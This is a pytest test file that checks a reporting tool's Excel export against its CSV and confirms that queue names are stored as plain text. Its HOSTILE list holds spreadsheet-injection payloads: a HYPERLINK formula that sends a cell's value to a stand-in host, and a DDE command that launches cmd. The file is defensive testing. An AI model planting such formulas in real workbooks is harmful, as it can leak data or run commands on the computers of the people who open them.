"""Acceptance (issue 14): the demo's workbook read back with openpyxl equals its CSV, cell by
cell, in value and in type; and the workbook is the kind a person can work with."""

from __future__ import annotations

import dataclasses
import io
from typing import Any

import openpyxl
import pytest

from app.pipeline.export import FORMULA_STARTS, neutral_text
from app.present.xlsx import render_xlsx
from tests.present.conftest import DemoReport, make_view


def _csv_value(text: str) -> Any:
    """What a CSV cell means: empty is no value, numbers are numbers (ints stay ints)."""
    if text == "":
        return None
    try:
        return int(text)
    except ValueError:
        pass
    try:
        return float(text)
    except ValueError:
        return text


def test_every_cell_equals_the_csv_in_value_and_type(demo: DemoReport) -> None:
    book = openpyxl.load_workbook(demo.path("xlsx"))
    assert book.sheetnames == ["Report", "About"]
    sheet = book["Report"]
    expected = demo.csv_rows()
    shown = [list(row) for row in sheet.iter_rows(values_only=True)]
    assert len(shown) == len(expected) > 5
    for got_row, csv_row in zip(shown, expected, strict=True):
        assert len(got_row) == len(csv_row)
        for got, text in zip(got_row, csv_row, strict=True):
            want = _csv_value(text)
            assert got == want and type(got) is type(want), (got, text)
    # Frozen header, a filter over the whole table, number formats by kind.
    assert sheet.freeze_panes == "A2"
    assert (
        sheet.auto_filter.ref
        == f"A1:{sheet.cell(1, sheet.max_column).column_letter}{len(expected)}"
    )
    header = [cell.value for cell in sheet[1]]
    last = len(expected)  # a row of one queue, with every metric known
    formats = {name: sheet.cell(last, i + 1).number_format for i, name in enumerate(header)}
    assert formats["service_level"] == "0.00%" and formats["abandon_rate"] == "0.00%"
    assert formats["avg_handle_seconds"] == "#,##0.00" and formats["offered"] == "#,##0"
    assert sheet.column_dimensions["A"].width > len("queue_id")
    # The second sheet: the period, the grain, the headline and the manifest's counts.
    about = {row[0]: row[1] for row in book["About"].iter_rows(values_only=True) if row[0]}
    manifest = demo.manifest()
    assert about["Grain"] == "interval" and about["Time zone"] == "Europe/Berlin"
    assert about["Period start"] == manifest["period"]["start"]
    assert about["conversations"] == manifest["counts"]["conversations"]
    assert about["events_counted"] == manifest["counts"]["events_counted"]
    assert about["offered"] == manifest["headline"]["offered"]
    assert about["Filter media_types"] == "voice, callback"
    assert about["Reconciliation"].endswith("values equal Genesys'")


HOSTILE = [
    '=HYPERLINK("http://x/?"&B3,"ok")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1",
    "-2",
    "\tTab",
    "http://example.com/looks-like-a-link",
]


@pytest.mark.parametrize("neutralise", [True, False])
def test_names_are_text_never_formulas_or_links(neutralise: bool) -> None:
    data = render_xlsx(make_view(HOSTILE, neutralise=neutralise))
    sheet = openpyxl.load_workbook(io.BytesIO(data))["Report"]
    for row, name in enumerate(HOSTILE, start=2):
        cell = sheet.cell(row, 2)
        # Stored as a string ("s"), whatever it looks like: never a formula ("f"), never a link.
        assert cell.value == name and cell.data_type == "s" and cell.hyperlink is None
        # The quote prefix is the workbook's apostrophe: it keeps an edited cell text too.
        assert cell.quotePrefix is (neutralise and name.startswith(FORMULA_STARTS))
        assert (neutral_text(name) != name) is name.startswith(FORMULA_STARTS)
    assert b"<f>" not in _sheet_xml(data)


def test_identical_content_gives_identical_bytes() -> None:
    assert render_xlsx(make_view(["Sales", "Billing"])) == render_xlsx(
        make_view(["Sales", "Billing"])
    )
    assert render_xlsx(make_view(["Sales"])) != render_xlsx(make_view(["Sales", "Billing"]))


def _sheet_xml(data: bytes) -> bytes:
    import zipfile

    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.read("xl/worksheets/sheet1.xml")


def test_edge_values_read_back_as_the_csv_has_them() -> None:
    view = make_view(["Sales", "Billing", "Care"])
    columns = [*view.columns, "wrapup_codes", "tiny", "huge"]
    extras: list[dict[str, Any]] = [
        {"wrapup_codes": [], "tiny": 1e-11, "huge": 2**60},
        {"wrapup_codes": ["A", "B"], "tiny": 0.12345678901234, "huge": -(2**53)},
        {"wrapup_codes": ["x" * 40_000], "tiny": None, "huge": 7},
    ]
    rows = [row | extra for row, extra in zip(view.rows, extras, strict=True)]
    data = render_xlsx(dataclasses.replace(view, columns=columns, rows=rows))
    sheet = openpyxl.load_workbook(io.BytesIO(data))["Report"]
    got = [[sheet.cell(r, c).value for c in (5, 6, 7)] for r in (2, 3, 4)]
    assert got[0] == [None, 0, str(2**60)]  # no codes: empty; 1e-11 is 0 at 10 decimals
    assert got[1] == ["A; B", 0.123456789, -(2**53)]
    assert got[2][0] == "x" * 32_766 + "\u2026" and got[2][1:] == [None, 7]
